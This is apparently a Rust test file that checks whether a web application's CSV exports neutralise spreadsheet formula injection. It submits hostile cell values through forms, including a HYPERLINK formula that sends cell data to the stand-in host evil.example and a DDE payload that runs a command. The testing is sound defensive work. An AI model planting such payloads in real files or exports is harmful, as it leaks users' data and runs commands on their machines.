//! Files for spreadsheets: no cell of an export begins a formula.

use super::forms::written;
use crate::world::Page;

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?vx7=\"&A1,\"vx7\")",
    "+cmd|' /C calc'!vx7",
    "-2+3+vx7()",
    "@SUM(vx7)",
    "\t=vx7()",
    "=vx7;=vx7()\r\n=vx7()",
];

/// The cells of a file that a spreadsheet would run. A plain number is none, whatever its sign.
fn runs(file: &str) -> Vec<String> {
    let file = file.trim_start_matches('\u{feff}');
    let first = file.lines().next().unwrap_or_default();
    let separator = if first.matches(';').count() > first.matches(',').count() { b';' } else { b',' };
    let mut reader =
        csv::ReaderBuilder::new().delimiter(separator).has_headers(false).flexible(true).from_reader(file.as_bytes());
    let mut found = Vec::new();
    for row in reader.records() {
        for cell in &row.unwrap() {
            let number = cell.replace(',', ".").parse::<f64>().is_ok();
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.len() > 1 && !number {
                found.push(cell.to_owned());
            }
        }
    }
    found
}

fn is_sheet(page: &Page) -> bool {
    page.status == 200 && page.header("content-type").is_some_and(|kind| kind.starts_with("text/csv"))
}

#[tokio::test]
async fn no_export_holds_a_formula() {
    let written = written(&FORMULAS).await;
    let sheets: Vec<&Page> = written.pages.iter().filter(|page| is_sheet(page)).collect();
    for sheet in &sheets {
        assert_eq!(runs(&sheet.text), Vec::<String>::new(), "{}", sheet.path);
        assert!(sheet.header("content-disposition").is_some_and(|how| how.starts_with("attachment")), "{}", sheet.path);
    }
    for formula in FORMULAS {
        let kept = formula.trim().trim_start_matches(['=', '+', '-', '@']).split(['"', '\r']).next().unwrap();
        assert!(sheets.iter().any(|sheet| sheet.text.contains(kept)), "{formula:?} does reach an export");
    }
}

#[test]
fn a_formula_that_gets_through_is_seen() {
    for formula in FORMULAS {
        let cell = format!("\"{}\"", formula.replace('"', "\"\""));
        assert!(!runs(&format!("a;b\n1;{cell}\n")).is_empty(), "{formula:?}");
        assert!(!runs(&format!("a,b\n{cell},2\n")).is_empty(), "{formula:?}");
    }
    assert!(runs("a;b\n-1,5;+2\n-;x\n").is_empty(), "numbers and dashes are no formulas");
}
